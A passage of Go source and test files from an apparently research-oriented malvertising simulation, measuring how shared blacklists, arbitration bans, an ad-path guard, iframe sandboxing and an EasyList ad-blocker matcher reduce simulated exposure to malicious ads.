		malicious[inc.AdHash] = true
	}
	// Chronological split: train on the first half of malicious ads.
	var malAds []*corpus.Ad
	for _, ad := range corp.All() {
		if malicious[ad.Hash] {
			malAds = append(malAds, ad)
		}
	}
	if len(malAds) < 4 {
		return Comparison{Name: "ad-path-guard", Notes: "(too few incidents to evaluate)"}
	}
	train := malAds[:len(malAds)/2]
	guard := TrainAdPathGuard(train, maxChain)

	trainSet := map[string]bool{}
	for _, ad := range train {
		trainSet[ad.Hash] = true
	}
	evalMal, blockedMal := 0, 0
	evalBenign, blockedBenign := 0, 0
	for _, ad := range corp.All() {
		if trainSet[ad.Hash] {
			continue
		}
		if malicious[ad.Hash] {
			evalMal++
			if guard.Blocks(ad) {
				blockedMal++
			}
		} else {
			evalBenign++
			if guard.Blocks(ad) {
				blockedBenign++
			}
		}
	}
	cmp := Comparison{
		Name: "ad-path-guard",
		Notes: fmt.Sprintf("(trained on %d incidents; collateral block rate %.4f)",
			len(train), ratio(blockedBenign, evalBenign)),
	}
	if evalMal > 0 {
		cmp.Baseline = 1
		cmp.Protected = 1 - ratio(blockedMal, evalMal)
	}
	return cmp
}

func ratio(a, b int) float64 {
	if b == 0 {
		return 0
	}
	return float64(a) / float64(b)
}

// EvaluateSandbox re-renders advertisements inside a publisher page whose
// iframes carry sandbox="allow-scripts" — the §4.4 recommendation — and
// measures how many forced top-level navigations are neutralized.
func EvaluateSandbox(u *memnet.Universe, ads []*corpus.Ad, seed uint64) Comparison {
	baselineHijacks, sandboxedHijacks, blocked := 0, 0, 0
	for _, ad := range ads {
		// Baseline: plain iframe (what publishers actually do).
		plain := renderWrapped(u, ad.FrameURL, "", seed)
		for _, nav := range plain.AllNavigations() {
			if nav.Kind == browser.NavTop && !nav.Blocked {
				baselineHijacks++
			}
		}
		// Protected: sandboxed iframe.
		sandboxed := renderWrapped(u, ad.FrameURL, ` sandbox="allow-scripts"`, seed)
		for _, nav := range sandboxed.AllNavigations() {
			if nav.Kind == browser.NavTop {
				if nav.Blocked {
					blocked++
				} else {
					sandboxedHijacks++
				}
			}
		}
	}
	return Comparison{
		Name:      "iframe-sandbox",
		Baseline:  float64(baselineHijacks),
		Protected: float64(sandboxedHijacks),
		Notes:     fmt.Sprintf("(%d ads re-rendered, %d hijacks blocked)", len(ads), blocked),
	}
}

// renderWrapped loads a synthetic publisher page embedding the ad frame.
func renderWrapped(u *memnet.Universe, frameURL, sandboxAttr string, seed uint64) *browser.Page {
	b := newDefenseBrowser(u, seed)
	html := fmt.Sprintf(`<html><body><iframe src="%s"%s width="300" height="250"></iframe></body></html>`,
		frameURL, sandboxAttr)
	return b.LoadHTML(html, "http://publisher.defense.test/")
}

// EvaluateAdBlock measures the §5.2 nuclear option: a browser with the
// EasyList blocker loads publisher pages and we count how many ad frames
// (and with them, malvertisements) never reach the user.
func EvaluateAdBlock(u *memnet.Universe, list *easylist.List, pageURLs []string, seed uint64) Comparison {
	loaded, blocked := 0, 0
	for _, url := range pageURLs {
		b := newDefenseBrowser(u, seed)
		b.Blocker = list
		page, err := b.Load(url, "")
		if err != nil || page == nil {
			continue
		}
		loaded += len(page.Frames)
		blocked += len(page.Blocked)
	}
	total := loaded + blocked
	cmp := Comparison{
		Name:  "adblock",
		Notes: fmt.Sprintf("(%d pages, %d frames blocked)", len(pageURLs), blocked),
	}
	if total > 0 {
		cmp.Baseline = 1
		cmp.Protected = float64(loaded) / float64(total)
	}
	return cmp
}

// ReplayAdBlock replays the EasyList engine over an already-collected ad
// corpus: every snapshotted ad frame is re-matched as a subdocument request
// from its publisher's page, through a single reusable match context. It
// measures the §5.2 blocker's coverage of the crawl corpus — the fraction
// of observed ad impressions the blocker would have suppressed — without
// re-rendering any pages, so it scales to the full corpus.
func ReplayAdBlock(list *easylist.List, corp *corpus.Corpus) Comparison {
	ctx := easylist.NewRequestCtx()
	total, blocked := 0, 0
	for _, ad := range corp.All() {
		total++
		ok, _ := list.MatchCtx(ctx, easylist.Request{
			URL:     ad.FrameURL,
			Type:    easylist.TypeSubdocument,
			DocHost: ad.PubHost,
		})
		if ok {
			blocked++
		}
	}
	cmp := Comparison{
		Name:  "adblock-replay",
		Notes: fmt.Sprintf("(%d corpus ads replayed)", total),
	}
	if total > 0 {
		cmp.Baseline = 1
		cmp.Protected = float64(total-blocked) / float64(total)
	}
	return cmp
}

func newDefenseBrowser(u *memnet.Universe, seed uint64) *browser.Browser {
	cap := netcap.New(&memnet.Transport{U: u})
	client := &http.Client{
		Transport: cap,
		CheckRedirect: func(req *http.Request, via []*http.Request) error {
			return http.ErrUseLastResponse
		},
	}
	b := browser.New(client, browser.UserProfile())
	b.Capture = cap
	b.RNG = stats.NewRNG(seed).Fork("defense")
	return b
}

// Stacked evaluates the proactive countermeasures combined: the shared
// submission blacklist AND arbitration penalties at once. The paper
// proposes both (§5.1); stacking shows how far network-side measures alone
// can push exposure down.
func Stacked(cfg adnet.Config, impressions int, ratioThreshold float64, seed uint64) (Comparison, error) {
	base, err := adnet.Generate(cfg)
	if err != nil {
		return Comparison{}, err
	}
	sharedCfg := cfg
	sharedCfg.SharedSubmissionFilter = true
	prot, err := adnet.Generate(sharedCfg)
	if err != nil {
		return Comparison{}, err
	}

	// Penalty measurement pass on the protected ecosystem.
	rng := stats.NewRNG(seed).Fork("stacked-measure")
	shares := make([]float64, len(prot.Networks))
	for i, n := range prot.Networks {
		shares[i] = n.Share
	}
	dist := stats.NewWeighted(shares)
	tot := make([]int, len(prot.Networks))
	mal := make([]int, len(prot.Networks))
	for i := 0; i < impressions; i++ {
		d := prot.Serve(rng, dist.Sample(rng))
		s := d.ServingNetwork()
		tot[s]++
		if d.Campaign.IsMalicious() {
			mal[s]++
		}
	}
	policy := &adnet.ServePolicy{BannedFromResale: map[int]bool{}}
	banned := 0
	for i := range prot.Networks {
		if tot[i] >= 50 && float64(mal[i])/float64(tot[i]) > ratioThreshold {
			policy.BannedFromResale[i] = true
			banned++
		}
	}
	return Comparison{
		Name:      "stacked-proactive",
		Baseline:  maliciousRate(base, impressions, seed+1, nil),
		Protected: maliciousRate(prot, impressions, seed+1, policy),
		Notes:     fmt.Sprintf("(shared blacklist + %d arbitration bans)", banned),
	}, nil
}

// HostOf is a small helper exposed for report rendering: the registered
// domain of a URL.
func HostOf(rawURL string) string {
	return urlx.RegisteredDomain(urlx.Host(rawURL))
}
