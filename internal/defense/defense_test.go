package defense

import (
	"fmt"
	"strings"
	"sync"
	"testing"

	"madave/internal/adnet"
	"madave/internal/browser"
	"madave/internal/core"
	"madave/internal/corpus"
)

var (
	onceFix sync.Once
	fixS    *core.Study
	fixR    *core.Results
)

func fixture(t *testing.T) (*core.Study, *core.Results) {
	t.Helper()
	onceFix.Do(func() {
		cfg := core.DefaultConfig()
		cfg.Seed = 21
		cfg.CrawlSites = 500
		s, err := core.NewStudy(cfg)
		if err != nil {
			panic(err)
		}
		fixS = s
		fixR = s.Run()
	})
	return fixS, fixR
}

func TestSharedBlacklistReducesExposure(t *testing.T) {
	cmp, err := SharedBlacklist(adnet.DefaultConfig(), 200_000, 1)
	if err != nil {
		t.Fatal(err)
	}
	if cmp.Baseline <= 0 {
		t.Fatalf("baseline rate = %f", cmp.Baseline)
	}
	if cmp.Protected >= cmp.Baseline {
		t.Fatalf("shared blacklist did not help: %s", cmp)
	}
	// Sharing rejections should cut exposure substantially: every campaign
	// that any decent filter catches becomes unplaceable everywhere.
	if cmp.Reduction() < 0.3 {
		t.Fatalf("reduction only %.2f: %s", cmp.Reduction(), cmp)
	}
}

func TestPenalizeNetworks(t *testing.T) {
	eco, err := adnet.Generate(adnet.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	cmp := PenalizeNetworks(eco, 200_000, 0.10, 2)
	if cmp.Baseline <= 0 {
		t.Fatal("no baseline exposure")
	}
	if !strings.Contains(cmp.Notes, "banned") {
		t.Fatalf("notes = %q", cmp.Notes)
	}
	if cmp.Protected >= cmp.Baseline {
		t.Fatalf("penalties did not help: %s", cmp)
	}
}

func TestAdPathGuard(t *testing.T) {
	_, r := fixture(t)
	cmp := EvaluateAdPathGuard(r.Corpus, r.Oracle, adnet.MaxChain/2)
	if cmp.Baseline == 0 {
		t.Skip("too few incidents in fixture")
	}
	// The guard should stop a meaningful share of future malvertisements
	// (the serving networks repeat across incidents).
	if cmp.Reduction() < 0.3 {
		t.Fatalf("guard reduction only %.2f: %s", cmp.Reduction(), cmp)
	}
	if !strings.Contains(cmp.Notes, "collateral") {
		t.Fatalf("notes = %q", cmp.Notes)
	}
}

func TestAdPathGuardBlocks(t *testing.T) {
	g := TrainAdPathGuard([]*corpus.Ad{
		{Chain: []string{"adserv.a.com", "adserv.evil.com"}},
	}, 10)
	if !g.Blocks(&corpus.Ad{Chain: []string{"adserv.evil.com"}}) {
		t.Fatal("flagged network not blocked")
	}
	if !g.Blocks(&corpus.Ad{Chain: make([]string, 11)}) {
		t.Fatal("overlong chain not blocked")
	}
	if g.Blocks(&corpus.Ad{Chain: []string{"adserv.clean.com"}}) {
		t.Fatal("clean short chain blocked")
	}
}

func TestSandboxNeutralizesHijacks(t *testing.T) {
	s, r := fixture(t)
	// Collect hijacking ads via ground truth (we want a targeted sample).
	var hijacks []*corpus.Ad
	for _, ad := range r.Corpus.All() {
		if c, ok := s.GroundTruth(ad); ok && c.Kind == adnet.KindLinkHijack {
			hijacks = append(hijacks, ad)
			if len(hijacks) >= 10 {
				break
			}
		}
	}
	if len(hijacks) == 0 {
		t.Skip("no hijack ads in fixture sample")
	}
	cmp := EvaluateSandbox(s.Universe, hijacks, 3)
	if cmp.Baseline == 0 {
		t.Fatalf("baseline saw no hijacks across %d hijack ads", len(hijacks))
	}
	if cmp.Protected != 0 {
		t.Fatalf("sandbox leaked hijacks: %s", cmp)
	}
	if cmp.Reduction() != 1 {
		t.Fatalf("reduction = %f", cmp.Reduction())
	}
}

func TestAdBlockBlocksEverything(t *testing.T) {
	s, _ := fixture(t)
	var urls []string
	for _, site := range s.Web.TopSlice(20) {
		urls = append(urls, fmt.Sprintf("http://%s/?v=defense", site.Host))
	}
	cmp := EvaluateAdBlock(s.Universe, s.List, urls, 4)
	if cmp.Baseline != 1 {
		t.Fatalf("baseline = %f", cmp.Baseline)
	}
	// The widget iframes still load; all ad frames are blocked. Top sites
	// carry 5-7 ads and 1 widget, so the protected share is small.
	if cmp.Protected > 0.35 {
		t.Fatalf("adblock left %.2f of frames: %s", cmp.Protected, cmp)
	}
	if cmp.Protected == 0 {
		t.Fatal("widget frames should survive ad blocking")
	}
}

func TestComparisonHelpers(t *testing.T) {
	c := Comparison{Name: "x", Baseline: 0.02, Protected: 0.005}
	if r := c.Reduction(); r < 0.74 || r > 0.76 {
		t.Fatalf("reduction = %f", r)
	}
	if (Comparison{}).Reduction() != 0 {
		t.Fatal("zero baseline should reduce 0")
	}
	worse := Comparison{Baseline: 0.01, Protected: 0.02}
	if worse.Reduction() != 0 {
		t.Fatal("negative reduction should clamp to 0")
	}
	if !strings.Contains(c.String(), "x") {
		t.Fatal("String missing name")
	}
}

func TestHostOf(t *testing.T) {
	if HostOf("http://ads.tracker.example.com/x") != "example.com" {
		t.Fatal("HostOf wrong")
	}
}

var _ = browser.NavTop // document the dependency used via EvaluateSandbox

func TestStackedDefenses(t *testing.T) {
	cmp, err := Stacked(adnet.DefaultConfig(), 200_000, 0.10, 5)
	if err != nil {
		t.Fatal(err)
	}
	if cmp.Baseline <= 0 || cmp.Protected >= cmp.Baseline {
		t.Fatalf("stacked defenses ineffective: %s", cmp)
	}
	// Stacking must beat the shared blacklist alone.
	solo, err := SharedBlacklist(adnet.DefaultConfig(), 200_000, 5)
	if err != nil {
		t.Fatal(err)
	}
	if cmp.Reduction() < solo.Reduction() {
		t.Fatalf("stacked %.3f should be >= shared-only %.3f", cmp.Reduction(), solo.Reduction())
	}
	if !strings.Contains(cmp.Notes, "shared blacklist +") {
		t.Fatalf("notes = %q", cmp.Notes)
	}
}
