package easylist

import (
	"strings"

	"madave/internal/urlx"
)

// RequestCtx memoizes per-request derived state: the request URL's host
// (needed by every $third-party rule) and the URL token list the index
// probes with, each computed once per Match instead of once per candidate
// rule. Hot loops should hold one RequestCtx and pass it to List.MatchCtx
// so the token scratch buffer is reused across requests. A RequestCtx must
// not be shared between goroutines.
type RequestCtx struct {
	req     Request
	reqHost string
	hostOK  bool
	tokens  []string
	// foldBuf is the allocation-free case-fold scratch: URL tokens that
	// contain uppercase are lowered into it and referenced by [lo,hi) spans
	// in foldSpans, instead of each allocating a lowered string. The index
	// probes them with a map[string(buf[lo:hi])] lookup, which Go compiles
	// without a conversion allocation.
	foldBuf   []byte
	foldSpans [][2]int32
}

// NewRequestCtx returns a reusable match context.
func NewRequestCtx() *RequestCtx { return &RequestCtx{} }

// reset points the context at a new request, dropping memoized state.
func (c *RequestCtx) reset(req Request) {
	c.req = req
	c.reqHost = ""
	c.hostOK = false
	c.tokens = c.tokens[:0]
	c.foldBuf = c.foldBuf[:0]
	c.foldSpans = c.foldSpans[:0]
}

// requestHost returns urlx.Host(req.URL), computed at most once per request.
func (c *RequestCtx) requestHost() string {
	if !c.hostOK {
		c.reqHost = urlx.Host(c.req.URL)
		c.hostOK = true
	}
	return c.reqHost
}

// Matches reports whether the rule matches the request, considering pattern,
// anchors, and options.
func (r *Rule) Matches(req Request) bool {
	var c RequestCtx
	c.reset(req)
	return r.matches(&c)
}

// matches is Matches against a prepared context.
func (r *Rule) matches(c *RequestCtx) bool {
	if !r.optionsAllow(c) {
		return false
	}
	u := c.req.URL
	switch {
	case r.anchorHost:
		return r.matchHostAnchor(u)
	case r.anchorStart:
		return matchPattern(r.pattern, u, 0, r.anchorEnd)
	default:
		return r.matchUnanchored(u)
	}
}

// pruneKind classifies how the unanchored scan advances between match
// attempts.
type pruneKind uint8

const (
	pruneNone pruneKind = iota // no literal to key on: try every offset
	pruneLit                   // jump to occurrences of pruneByte (case-folded)
	pruneSep                   // pattern starts with '^': jump to separator bytes
)

// prunePlan derives the scan strategy from the pattern's first effective
// element (leading '*'s are transparent: they only widen where the rest may
// begin, which the outer scan already does).
func prunePlan(pat string) (pruneKind, byte) {
	for i := 0; i < len(pat); i++ {
		switch c := pat[i]; c {
		case '*':
			continue
		case '^':
			return pruneSep, 0
		default:
			if 'A' <= c && c <= 'Z' {
				c += 'a' - 'A'
			}
			return pruneLit, c
		}
	}
	return pruneNone, 0
}

// matchUnanchored tries the pattern at every viable start offset, using the
// precomputed prune to skip offsets that cannot begin a match: patterns
// opening with a literal byte jump between its (case-folded) occurrences,
// and patterns opening with '^' jump between separator bytes instead of
// silently re-walking every offset.
func (r *Rule) matchUnanchored(u string) bool {
	switch r.pruneKind {
	case pruneLit:
		for i := 0; ; i++ {
			j := indexByteFold(u, i, r.pruneByte)
			if j < 0 {
				return false
			}
			if matchPattern(r.pattern, u, j, r.anchorEnd) {
				return true
			}
			i = j
		}
	case pruneSep:
		for i := 0; i < len(u); i++ {
			if isSeparator(u[i]) && matchPattern(r.pattern, u, i, r.anchorEnd) {
				return true
			}
		}
		// A leading '^' may also be satisfied by the end of the URL.
		return matchPattern(r.pattern, u, len(u), r.anchorEnd)
	default:
		for i := 0; i <= len(u); i++ {
			if matchPattern(r.pattern, u, i, r.anchorEnd) {
				return true
			}
		}
		return false
	}
}

// indexByteFold returns the first index >= from of lower or its ASCII
// uppercase twin in s, or -1. Matching is case-insensitive, so the prune
// must be too: searching only the pattern's literal case would skip over
// valid starts in differently-cased URLs.
func indexByteFold(s string, from int, lower byte) int {
	if from > len(s) {
		return -1
	}
	j := strings.IndexByte(s[from:], lower)
	if 'a' <= lower && lower <= 'z' {
		k := strings.IndexByte(s[from:], lower-'a'+'A')
		if j < 0 || (k >= 0 && k < j) {
			j = k
		}
	}
	if j < 0 {
		return -1
	}
	return from + j
}

// matchHostAnchor implements the || anchor: the pattern must match starting
// at the URL's host, or at any subdomain-label boundary within the host.
func (r *Rule) matchHostAnchor(u string) bool {
	hostStart := strings.Index(u, "://")
	if hostStart < 0 {
		return false
	}
	hostStart += 3
	hostEnd := hostStart
	for hostEnd < len(u) && u[hostEnd] != '/' && u[hostEnd] != '?' && u[hostEnd] != '#' {
		hostEnd++
	}
	// Candidate positions: start of host and each position after a dot.
	for i := hostStart; i < hostEnd; i++ {
		if i == hostStart || u[i-1] == '.' {
			if matchPattern(r.pattern, u, i, r.anchorEnd) {
				return true
			}
		}
	}
	return false
}

// matchPattern matches the ABP pattern alphabet against s starting exactly
// at offset start: literal bytes (ASCII case-folded), '*' (any run,
// possibly empty), and '^' (one separator byte, or the end of the URL).
// anchorEnd pins the match to the end of s.
//
// The loop is an iterative two-pointer glob matcher with a single-'*'
// backtrack point: on a mismatch it resumes after the most recent '*' with
// one more byte absorbed. That bounds the worst case at
// O(len(s)·len(pat)) — the recursive formulation it replaces went
// exponential on pathological many-star patterns.
func matchPattern(pat, s string, start int, anchorEnd bool) bool {
	pi, si := 0, start
	backPi, backSi := -1, 0
	for {
		if pi < len(pat) {
			c := pat[pi]
			switch {
			case c == '*':
				// Collapse consecutive stars and record the resume point.
				for pi < len(pat) && pat[pi] == '*' {
					pi++
				}
				backPi, backSi = pi, si
				continue
			case si < len(s) && ((c == '^' && isSeparator(s[si])) || (c != '^' && eqFold(s[si], c))):
				pi++
				si++
				continue
			case si == len(s) && c == '^':
				// '^' is also satisfied, zero-width, by the end of the URL,
				// however many pattern bytes ('^' or '*') follow it.
				pi++
				continue
			}
		} else if !anchorEnd || si == len(s) {
			return true
		}
		// Mismatch: retry from the last '*', absorbing one more byte.
		if backPi < 0 || backSi >= len(s) {
			return false
		}
		backSi++
		pi, si = backPi, backSi
	}
}

// isSeparator implements the ABP separator class: anything that is not a
// letter, digit, or one of "_-.%".
func isSeparator(c byte) bool {
	switch {
	case c >= 'a' && c <= 'z', c >= 'A' && c <= 'Z', c >= '0' && c <= '9':
		return false
	case c == '_' || c == '-' || c == '.' || c == '%':
		return false
	}
	return true
}

// eqFold compares two bytes ASCII case-insensitively: ABP matching is
// case-insensitive by default.
func eqFold(a, b byte) bool {
	if 'A' <= a && a <= 'Z' {
		a += 'a' - 'A'
	}
	if 'A' <= b && b <= 'Z' {
		b += 'a' - 'A'
	}
	return a == b
}

// optionsAllow checks the rule's option constraints against the request.
func (r *Rule) optionsAllow(c *RequestCtx) bool {
	if r.typeInclude != nil && !r.typeInclude[c.req.Type] {
		return false
	}
	if r.typeExclude != nil && r.typeExclude[c.req.Type] {
		return false
	}
	if r.thirdParty != nil {
		third := true
		if c.req.DocHost != "" {
			third = !urlx.SameRegisteredDomain(c.requestHost(), c.req.DocHost)
		}
		if *r.thirdParty != third {
			return false
		}
	}
	if len(r.domainsInc) > 0 {
		ok := false
		for _, d := range r.domainsInc {
			if urlx.IsSubdomainOf(c.req.DocHost, d) {
				ok = true
				break
			}
		}
		if !ok {
			return false
		}
	}
	for _, d := range r.domainsExc {
		if urlx.IsSubdomainOf(c.req.DocHost, d) {
			return false
		}
	}
	return true
}
