package easylist

import (
	"strings"
	"testing"
	"testing/quick"
)

func mustParse(t *testing.T, list string) *List {
	t.Helper()
	l, err := ParseString(list)
	if err != nil {
		t.Fatalf("ParseString: %v", err)
	}
	return l
}

func TestHostAnchor(t *testing.T) {
	l := mustParse(t, "||ads.example.com^")
	cases := map[string]bool{
		"http://ads.example.com/banner.js":        true,
		"https://ads.example.com/x?y=1":           true,
		"http://sub.ads.example.com/z":            true,
		"http://ads.example.com.evil.net/":        false, // ^ requires separator after
		"http://notads.example.com/":              false,
		"http://example.com/ads.example.com/":     false, // host anchor matches host only
		"http://other.net/?r=ads.example.com%2Fx": false,
	}
	for u, want := range cases {
		if got := l.MatchURL(u); got != want {
			t.Errorf("MatchURL(%q) = %v, want %v", u, got, want)
		}
	}
}

func TestHostAnchorWithPath(t *testing.T) {
	l := mustParse(t, "||example.com/adserver/")
	if !l.MatchURL("http://example.com/adserver/show") {
		t.Error("path under anchor should match")
	}
	if l.MatchURL("http://example.com/other/adserver2") {
		t.Error("different path should not match")
	}
}

func TestStartAndEndAnchors(t *testing.T) {
	l := mustParse(t, "|http://banner.")
	if !l.MatchURL("http://banner.example.com/x") {
		t.Error("start anchor should match")
	}
	if l.MatchURL("http://example.com/http://banner.") {
		t.Error("start anchor must pin to position 0")
	}

	l2 := mustParse(t, "swf|")
	if !l2.MatchURL("http://example.com/movie.swf") {
		t.Error("end anchor should match")
	}
	if l2.MatchURL("http://example.com/movie.swf?x=1") {
		t.Error("end anchor must pin to end")
	}
}

func TestWildcards(t *testing.T) {
	l := mustParse(t, "/banner/*/img^")
	if !l.MatchURL("http://example.com/banner/foo/img?x") {
		t.Error("wildcard should match")
	}
	if !l.MatchURL("http://example.com/banner/a/b/img") {
		t.Error("wildcard spanning slashes should match, separator at end-of-url")
	}
	if l.MatchURL("http://example.com/banner/foo/imgraph") {
		t.Error("^ must not match a letter")
	}
	if l.MatchURL("http://example.com/banner/img") {
		t.Error("missing middle segment should not match")
	}
}

func TestSeparatorClass(t *testing.T) {
	l := mustParse(t, "||example.com^ad^")
	if !l.MatchURL("http://example.com/ad/") {
		t.Error("'/' is a separator")
	}
	if !l.MatchURL("http://example.com/ad?") {
		t.Error("'?' is a separator")
	}
	l3 := mustParse(t, "||example.com^8000^")
	if !l3.MatchURL("http://example.com:8000/") {
		t.Error("':' is a separator")
	}
	if l.MatchURL("http://example.com-ad-") {
		t.Error("'-' is not a separator")
	}
}

func TestCaseInsensitive(t *testing.T) {
	l := mustParse(t, "/AdBanner.")
	if !l.MatchURL("http://example.com/adbanner.gif") {
		t.Error("matching should be case-insensitive")
	}
}

func TestExceptionRules(t *testing.T) {
	l := mustParse(t, `
||ads.example.com^
@@||ads.example.com/acceptable/
`)
	blocked, rule := l.Match(Request{URL: "http://ads.example.com/banner"})
	if !blocked || rule == nil || rule.Exception {
		t.Fatalf("banner should be blocked, got %v %+v", blocked, rule)
	}
	blocked, rule = l.Match(Request{URL: "http://ads.example.com/acceptable/one"})
	if blocked {
		t.Fatal("exception should rescue the request")
	}
	if rule == nil || !rule.Exception {
		t.Fatal("exception rule should be reported")
	}
}

func TestTypeOptions(t *testing.T) {
	l := mustParse(t, "||tracker.example.net^$script,subdocument")
	req := Request{URL: "http://tracker.example.net/t.js"}

	req.Type = TypeScript
	if ok, _ := l.Match(req); !ok {
		t.Error("script should match")
	}
	req.Type = TypeSubdocument
	if ok, _ := l.Match(req); !ok {
		t.Error("subdocument should match")
	}
	req.Type = TypeImage
	if ok, _ := l.Match(req); ok {
		t.Error("image should not match")
	}
}

func TestNegatedTypeOption(t *testing.T) {
	l := mustParse(t, "||cdn.example.net^$~image")
	if ok, _ := l.Match(Request{URL: "http://cdn.example.net/x", Type: TypeImage}); ok {
		t.Error("negated type must exclude")
	}
	if ok, _ := l.Match(Request{URL: "http://cdn.example.net/x", Type: TypeScript}); !ok {
		t.Error("other types must match")
	}
}

func TestThirdPartyOption(t *testing.T) {
	l := mustParse(t, "||widgets.example.com^$third-party")
	third := Request{URL: "http://widgets.example.com/w.js", DocHost: "www.news.net", Type: TypeScript}
	if ok, _ := l.Match(third); !ok {
		t.Error("third-party request should match")
	}
	first := Request{URL: "http://widgets.example.com/w.js", DocHost: "www.example.com", Type: TypeScript}
	if ok, _ := l.Match(first); ok {
		t.Error("first-party request should not match")
	}
}

func TestDomainOption(t *testing.T) {
	l := mustParse(t, "/promo.$domain=shop.example|~safe.shop.example")
	if ok, _ := l.Match(Request{URL: "http://x.net/promo.gif", DocHost: "www.shop.example"}); !ok {
		t.Error("included domain should match")
	}
	if ok, _ := l.Match(Request{URL: "http://x.net/promo.gif", DocHost: "safe.shop.example"}); ok {
		t.Error("excluded subdomain should not match")
	}
	if ok, _ := l.Match(Request{URL: "http://x.net/promo.gif", DocHost: "other.example"}); ok {
		t.Error("non-included domain should not match")
	}
}

func TestCommentsAndHeaders(t *testing.T) {
	l := mustParse(t, `
[Adblock Plus 2.0]
! Title: test list
! comment
||real.example.com^
`)
	if l.Len() != 1 {
		t.Fatalf("rule count = %d, want 1", l.Len())
	}
}

func TestElementHidingSkipped(t *testing.T) {
	l := mustParse(t, `
example.com###ad-banner
##.sponsored
||kept.example.com^
`)
	if l.Len() != 1 {
		t.Fatalf("rule count = %d, want 1", l.Len())
	}
	if l.Skipped() != 2 {
		t.Fatalf("skipped = %d, want 2", l.Skipped())
	}
}

func TestUnknownOptionTreatedAsLiteral(t *testing.T) {
	// A '$' suffix that is not a valid option list is part of the pattern,
	// so the rule only matches URLs containing it literally.
	l := mustParse(t, "||x.com^$script,bogusoption")
	if l.MatchURL("http://x.com/ad.js") {
		t.Fatal("rule with literal $ tail must not match plain URL")
	}
	if !l.MatchURL("http://x.com/$script,bogusoption") {
		t.Fatal("rule should match URL containing the literal tail")
	}
}

func TestDollarInPath(t *testing.T) {
	// A '$' that does not introduce a valid option list is part of the URL.
	l := mustParse(t, "/path$with$dollars")
	if !l.MatchURL("http://example.com/path$with$dollars") {
		t.Error("dollar in path should be literal")
	}
}

func TestPlainSubstring(t *testing.T) {
	l := mustParse(t, "/ad_iframe/")
	if !l.MatchURL("http://anything.example.com/x/ad_iframe/y") {
		t.Error("plain substring should match anywhere")
	}
	if l.MatchURL("http://anything.example.com/x/ad-iframe/y") {
		t.Error("literal must match exactly")
	}
}

func TestMatchURLEmptyList(t *testing.T) {
	l := mustParse(t, "")
	if l.MatchURL("http://example.com/") {
		t.Error("empty list blocks nothing")
	}
}

func TestEmptyPatternError(t *testing.T) {
	if _, err := ParseRule("@@"); err == nil {
		t.Fatal("empty exception should fail")
	}
}

// Property: a host-anchored rule for a host never matches URLs on an
// unrelated registered domain.
func TestHostAnchorProperty(t *testing.T) {
	l := mustParse(t, "||adserv.example.com^")
	f := func(a, b uint8) bool {
		host := word(a) + "." + word(b) + ".org"
		return !l.MatchURL("http://" + host + "/page")
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

// Property: parsing arbitrary non-comment lines never panics.
func TestParseFuzzProperty(t *testing.T) {
	f := func(raw []byte) bool {
		s := strings.ReplaceAll(string(raw), "\x00", "")
		ParseString(s) // error or not, must not panic
		ParseRule(s)   // same
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}

// Property: matching arbitrary URLs against a fixed realistic list
// terminates and never panics.
func TestMatchFuzzProperty(t *testing.T) {
	l := mustParse(t, `
||ads.example.com^
||track*.example.net^$third-party
/banner/*/img^
|http://promo.
.swf|
@@||ads.example.com/ok/
`)
	f := func(raw []byte) bool {
		l.MatchURL(string(raw))
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}

func word(x uint8) string {
	const alpha = "abcdefghij"
	n := int(x%4) + 2
	var b strings.Builder
	for i := 0; i < n; i++ {
		b.WriteByte(alpha[(int(x)+i*3)%len(alpha)])
	}
	return b.String()
}

func TestWildcardInHostAnchor(t *testing.T) {
	l := mustParse(t, "||track*.example.net^")
	if !l.MatchURL("http://tracker01.example.net/p") {
		t.Error("wildcard in host should match")
	}
	if !l.MatchURL("http://track.example.net/p") {
		t.Error("empty wildcard should match")
	}
	if l.MatchURL("http://rack.example.net/p") {
		t.Error("prefix must still be required")
	}
}

func TestEndAnchorWithWildcard(t *testing.T) {
	// '*' before the end anchor absorbs the tail, but literals after the
	// '*' must still land at the very end of the URL.
	l := mustParse(t, "foo*bar|")
	if !l.MatchURL("http://x.com/foo/quux-bar") {
		t.Error("tail literal at end should match")
	}
	if l.MatchURL("http://x.com/foobarbaz") {
		t.Error("end anchor must pin the tail literal to the end")
	}
	// A bare trailing '*|' is equivalent to no end anchor at all: the star
	// absorbs everything up to the end.
	l2 := mustParse(t, "foo*|")
	if !l2.MatchURL("http://x.com/fooZZZ") {
		t.Error("trailing * should absorb to the end")
	}
}

func TestSeparatorBeforeTrailingStars(t *testing.T) {
	// '^' is satisfied by the end of the URL even when only '*'s (or more
	// '^'s) follow it in the pattern.
	for _, pat := range []string{"ads^*", "ads^**", "ads^^", "ads^*^"} {
		l := mustParse(t, pat)
		if !l.MatchURL("http://x.com/ads") {
			t.Errorf("%q should match at end of URL", pat)
		}
	}
	l := mustParse(t, "||x.com^*")
	if !l.MatchURL("http://x.com") {
		t.Error("host rule with trailing ^* should match bare host")
	}
	// But a literal after the end-of-URL '^' can never match.
	l2 := mustParse(t, "ads^*x")
	if l2.MatchURL("http://q.com/ads") {
		t.Error("literal after end-of-URL separator must not match")
	}
}

func TestSeparatorFirstPattern(t *testing.T) {
	// Patterns opening with '^' use the separator-jump prune; semantics
	// must be unchanged: the '^' consumes exactly one separator byte.
	l := mustParse(t, "^ad^")
	if !l.MatchURL("http://x.com/ad/") {
		t.Error("separator-first pattern should match")
	}
	if l.MatchURL("http://x.com/bad/") {
		t.Error("'^' must not match inside a word")
	}
	if l.MatchURL("http://x.com/x-ad.y") {
		t.Error("'-' and '.' are not separators")
	}
	l2 := mustParse(t, "^promo")
	if !l2.MatchURL("http://x.com/promo") {
		t.Error("separator then literal at end should match")
	}
}

func TestCaseFoldedPrune(t *testing.T) {
	// The unanchored first-literal prune must be case-insensitive like the
	// matcher itself: a lowercase pattern still matches an uppercase URL.
	l := mustParse(t, "adbanner")
	if !l.MatchURL("http://x.example/ADBANNER.gif") {
		t.Error("lowercase pattern should match uppercase URL")
	}
	l2 := mustParse(t, "ADBANNER")
	if !l2.MatchURL("http://x.example/adbanner.gif") {
		t.Error("uppercase pattern should match lowercase URL")
	}
}

func TestPathologicalPatternTerminates(t *testing.T) {
	// The iterative single-star backtrack is O(len(url)·len(pattern));
